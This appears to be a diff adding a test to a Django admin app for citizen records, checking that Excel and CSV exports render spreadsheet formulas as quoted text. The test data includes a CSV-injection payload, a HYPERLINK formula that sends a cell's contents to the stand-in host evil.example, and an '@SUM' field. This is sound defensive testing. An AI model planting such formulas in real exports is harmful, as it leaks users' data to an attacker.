@@ -88,3 +88,26 @@ def test_a_citizen_export_is_a_logged_read_of_their_personal_data(placed_petitio
     entry = ConfidentialAccess.objects.exclude(pk__in=before).get(path=url)
     assert entry.kind == "personal" and entry.object_ids == str(citizen.pk)
     assert "id_number" in entry.fields and entry.user.username == "xa_dongkinh"
+
+
+def test_list_exports_write_formulas_as_text(role_users, login):
+    # given a citizen whose address and name were typed as spreadsheet formulas
+    import zipfile
+
+    dk = new_unit("05977")
+    formula = '=HYPERLINK("http://evil.example/?x="&C2,"Xem")'
+    citizen = make_citizen(dk, "@SUM(1,2)", "020090000061")
+    citizen.address = formula
+    citizen.save()
+    url = reverse("admin:tiep_cong_dan_citizen_changelist")
+    chosen = {"_selected_action": [citizen.pk]}
+    # when the Board exports it to Excel and to CSV
+    board = login("canbo")
+    excel = board.post(url, {**chosen, "action": "export_excel"}).content
+    text = board.post(url, {**chosen, "action": "export_csv"}).content.decode("utf-8-sig")
+    # then the workbook holds no formula and both files show the text behind a quote
+    with zipfile.ZipFile(io.BytesIO(excel)) as package:
+        assert "<f>" not in package.read("xl/worksheets/sheet1.xml").decode()
+    row = list(openpyxl.load_workbook(io.BytesIO(excel)).active.values)[1]
+    assert row[0] == "'@SUM(1,2)" and "'" + formula in row
+    assert "'@SUM(1,2)" in text and "'=HYPERLINK(" in text and "\n=" not in text
